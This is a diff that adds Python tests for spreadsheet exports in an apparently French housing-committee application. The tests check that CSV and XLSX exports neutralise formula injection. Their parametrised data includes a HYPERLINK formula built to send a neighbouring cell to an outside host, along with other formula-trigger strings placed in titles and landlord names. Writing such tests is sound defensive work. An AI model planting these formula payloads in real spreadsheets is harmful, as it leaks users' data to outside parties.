@@ -17,7 +17,7 @@ from docx import Document
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from core.models import JointOpinion, Opinion
+from core.models import Dossier, JointOpinion, Opinion, Organisation
 from tests import access
 from tests.access import A_DRAFT, A_TITLE, B_DRAFT, B_TITLE, LOGIN
 from tests.factories import DossierFactory
@@ -279,6 +279,42 @@ def test_export_of_a_dossier_awaiting_its_opinion(cast, login, extension):
     opinions = shown_opinions(export_rows(response, extension))
     assert opinions[PENDING_TITLE] == HIDDEN
     assert set(opinions) == {*BOTH, PENDING_TITLE}
+
+
+# What a landlord could name a project so that the committee's spreadsheet sends a neighbouring cell away.
+FORMULAS = ['=HYPERLINK("http://x?leak="&F3,"Voir")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+@pytest.mark.parametrize("export", EXPORTS)
+def test_an_export_writes_every_text_as_text(cast, login, export, formula):
+    """OWASP's "CSV injection": the XLSX cell is a text (not a formula), marked with the quote prefix; the CSV
+    cell starts with a quote. Numbers stay numbers."""
+    Dossier.objects.filter(pk=cast.dossier.pk).update(title=formula)
+    Organisation.objects.filter(pk=cast.dossier.lead_landlord_id).update(name=f"{formula} HLM")
+    _, name, key, _ = EXPORTS[export]
+    client = login(cast.users["secretariat"])
+    sheet = load_workbook(io.BytesIO(body(client.get(reverse(name, args=[key(cast), "xlsx"]))))).active
+    header = [cell.value for cell in sheet[1]]
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[header.index("N°")].value == cast.dossier.number)
+    for column in ("Projet", "Bailleur social"):
+        cell = row[header.index(column)]
+        assert (cell.data_type, cell.quotePrefix) == ("s", True)
+        # A carriage return is written escaped (OOXML's _x000D_), which Excel reads back and openpyxl does not.
+        assert cell.value.replace("_x000D_", "\r").removesuffix(" HLM") == formula
+    assert row[header.index("Ménages")].data_type == "n"
+    rows = export_rows(client.get(reverse(name, args=[key(cast), "csv"])), "csv")
+    line = next(line for line in rows if line[rows[0].index("N°")] == str(cast.dossier.number))
+    assert line[rows[0].index("Projet")] == f"'{formula}"
+    assert line[rows[0].index("Bailleur social")] == f"'{formula} HLM"
+
+
+@pytest.mark.parametrize("title", ["Projet = accompagnement", "Ménages à -20 %", "'Chez soi' d'abord"])
+def test_an_export_leaves_other_texts_as_they_are(cast, login, title):
+    Dossier.objects.filter(pk=cast.dossier.pk).update(title=title)
+    url = reverse("committee_export", args=[cast.committee.uuid, "csv"])
+    rows = export_rows(login(cast.users["secretariat"]).get(url), "csv")
+    assert title in [line[rows[0].index("Projet")] for line in rows]
 
 
 # --- Unknown formats ------------------------------------------------------------------------------
